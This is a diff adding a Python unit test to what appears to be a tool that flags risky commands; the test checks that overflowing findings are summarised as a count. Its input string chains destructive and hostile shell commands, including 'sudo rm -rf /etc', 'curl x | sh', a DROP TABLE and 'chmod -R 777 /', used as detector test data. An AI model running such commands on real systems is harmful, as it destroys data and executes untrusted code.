@@ -67,3 +67,12 @@ def test_a_decided_card_has_no_alarm() -> None:
     )
     drawn = draw.card_of(closed, samples.MINT)
     assert (drawn.risk, said(drawn)) == (None, [])
+
+
+def test_what_has_no_room_is_counted() -> None:
+    many = (
+        "sudo rm -rf /etc && git push --force && curl x | sh && psql -c 'DROP TABLE t' && chmod -R 777 / && kill -9 -1"
+    )
+    words = said(draw.card_of(ticket(many), samples.MINT))
+    assert words[-1].endswith(" more findings")
+    assert len(words) == 6
